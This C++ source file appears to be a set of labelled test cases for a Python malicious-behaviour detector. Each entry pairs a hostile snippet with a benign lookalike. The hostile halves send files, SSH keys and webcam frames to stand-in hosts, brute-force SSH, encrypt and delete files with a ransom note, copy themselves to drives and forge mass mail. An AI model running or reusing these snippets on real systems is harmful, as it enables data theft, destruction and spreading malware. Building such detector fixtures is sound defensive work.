#include "behaviour_examples.h"

namespace pyverdict::behaviour {
namespace {

constexpr Example kCollection[] = {
    {"archive-and-send", "",
     R"(
import os, requests, zipfile
with zipfile.ZipFile("data.zip", "w") as out:
    for folder, _, names in os.walk("x"):
        for name in names:
            out.write(os.path.join(folder, name))
requests.post("http://host.example.invalid/in", files={"f": data})
)",
     R"(
import os, zipfile
with zipfile.ZipFile("data.zip", "w") as out:
    for folder, _, names in os.walk("x"):
        for name in names:
            out.write(os.path.join(folder, name))
)"},
    {"file-sent", "",
     "import requests\nrequests.post('http://host.example.invalid/in', files={'f': open('report.txt', "
     "'rb')})\n",
     "import requests, sys\nrequests.post(sys.argv[1], files={'f': open('report.txt', 'rb')})\n"},
    {"camera-microphone", "collected-data-sent",
     R"(
import cv2, requests
frame = cv2.VideoCapture(0).read()[1]
requests.post("http://host.example.invalid/in", data=frame.tobytes())
)",
     "import cv2\ncv2.imshow('x', cv2.VideoCapture(0).read()[1])\n"},
    {"mail-theft", "",
     R"(
import os, shutil
shutil.make_archive("mail", "zip", os.path.expanduser("~/.thunderbird/profiles"))
)",
     "import mailbox\nfor message in mailbox.mbox('inbox'):\n    print(message['subject'])\n"},
    {"telegram-token", "telegram-bot",
     R"(
import requests
requests.get("https://api.telegram.org/bot123456789:AAabcdefghijklmnopqrstuvwxyz0123456/sendMessage", params={"text": "up"})
)",
     R"(
import os, requests
requests.get("https://slack.example.invalid/" + os.environ["TOKEN"], params={"text": "up"})
)"},
    {"webhook-with-data", "webhook host-facts-sent",
     R"(
import platform, requests
hook = "https://discord.com/api/webhooks/1/abcdef"
requests.post(hook, json={"content": platform.node()})
)",
     R"(
import requests, sys
requests.post(sys.argv[1], json={"content": "build is green"})
)"},
    {"credential-sent", "ssh-keys",
     R"(
import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("http://host.example.invalid/in", data=key)
)",
     R"(
import requests
requests.post("http://host.example.invalid/in", data={"user": "a"})
)"},
    {"password-prompt", "",
     R"(
import requests, tkinter
box = tkinter.Entry(show="*")
requests.post("http://host.example.invalid/in", data={"p": box.get()})
)",
     "import tkinter\nbox = tkinter.Entry(show='*')\nprint(len(box.get()))\n"},
    {"brute-force", "",
     R"(
import paramiko
client = paramiko.SSHClient()
for line in open("passlist.txt"):
    client.connect("192.0.2.7", username="a", password=line)
)",
     R"(
import paramiko
paramiko.SSHClient().connect("192.0.2.7", username="a", key_filename="k")
)"},
};

constexpr Example kDamage[] = {
    {"ransomware", "mass-encryption",
     R"(
import os
from cryptography.fernet import Fernet
box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk("x"):
    for name in names:
        data = open(name, "rb").read()
        open(name + ".locked", "wb").write(box.encrypt(data))
        os.remove(name)
open("README.txt", "w").write("your files were encrypted")
)",
     R"(
import os
for folder, _, names in os.walk("x"):
    for name in names:
        print(name)
)"},
    {"mass-encryption", "",
     R"(
import os
from cryptography.fernet import Fernet
box = Fernet(key)
for folder, _, names in os.walk("x"):
    for name in names:
        data = open(name, "rb").read()
        open(name, "wb").write(box.encrypt(data))
)",
     R"(
from cryptography.fernet import Fernet
data = open("backup.tar", "rb").read()
open("backup.tar.x", "wb").write(Fernet(key).encrypt(data))
)"},
    {"mass-mail", "",
     R"(
import smtplib
server = smtplib.SMTP("mail.example.invalid")
for to in addresses:
    server.sendmail("a@example.invalid", to, "From: Support <s@example.invalid>\n\nhello")
)",
     R"(
import smtplib
smtplib.SMTP("mail.example.invalid").sendmail("a@example.invalid", "b@example.invalid", "hello")
)"},
    {"bot-build", "",
     R"(
import os
for kind in ["cross-compiler-mips", "cross-compiler-armv6l"]:
    os.system("./" + kind + "/bin/gcc -static -o /var/www/html/" + kind + " bot.c")
)",
     "import os\nos.system('./cross-compiler-mips/bin/gcc -o firmware main.c')\n"},
    {"removable-media-spreading", "runs-own-copy",
     R"(
import psutil, shutil
for disk in psutil.disk_partitions():
    shutil.copy(__file__, disk.mountpoint)
)",
     R"(
import psutil, shutil
for disk in psutil.disk_partitions():
    shutil.copy("backup.tar", disk.mountpoint)
)"},
    {"repository-spreading", "",
     R"(
import os, requests
files = list(os.walk("."))
requests.put("https://api.github.com/repos/x/y/contents/.github/workflows/a.yml", json={"content": text})
)",
     "import os\nos.system('git push')\n"},
};

}  // namespace

std::span<const Example> collection_examples() { return kCollection; }
std::span<const Example> damage_examples() { return kDamage; }

}  // namespace pyverdict::behaviour
